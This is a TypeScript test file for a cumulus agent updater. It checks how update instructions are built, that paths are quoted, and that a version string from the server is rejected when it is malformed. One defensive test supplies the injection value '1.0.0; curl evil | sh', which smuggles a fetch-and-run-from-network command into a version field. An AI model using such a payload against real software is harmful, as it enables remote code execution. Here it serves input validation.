import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { isCumulusError } from '../core/errors.ts';
import { updateSteps } from './updater.ts';

const server = (latest: string) => ({ latestRelease: async () => ({ latest, minimum: '0.0.1', notes: '' }) });

describe('updateSteps', () => {
  it('says so when up to date', async () => {
    assert.deepEqual(await updateSteps(server('0.1.0'), '0.1.0'), ['already up to date (0.1.0)']);
  });

  it('for a git checkout, names the commands: fetch, verify the tag, check it out, install', async () => {
    const root = await mkdtemp(join(tmpdir(), 'cumulus update '));
    try {
      await mkdir(join(root, '.git'));
      const steps = (await updateSteps(server('0.2.0'), '0.1.0', `${root}/`)).join('\n');
      assert.match(steps, /the server says 0.2.0 is the latest agent \(this one is 0.1.0\)/);
      assert.match(steps, /git -C '.*cumulus update .*\/' verify-tag v0.2.0/, 'paths are quoted');
      assert.match(steps, /checkout v0.2.0\n.*ci --omit=dev\n {2}cumulus agent restart$/);
    } finally {
      await rm(root, { recursive: true });
    }
  });

  it('for any other copy, never names the public registry package', async () => {
    const steps = (await updateSteps(server('0.2.0'), '0.1.0', '/usr/lib/node_modules/cumulus/')).join('\n');
    assert.match(steps, /install 0.2.0 the way you installed this copy/);
    assert.doesNotMatch(steps, /npm install( --global)? cumulus@/);
  });

  it('refuses a latest version that is not a version: it would go into a command', async () => {
    await assert.rejects(updateSteps(server('1.0.0; curl evil | sh'), '0.1.0'), (e) =>
      isCumulusError(e, 'invalid_input'),
    );
  });
});
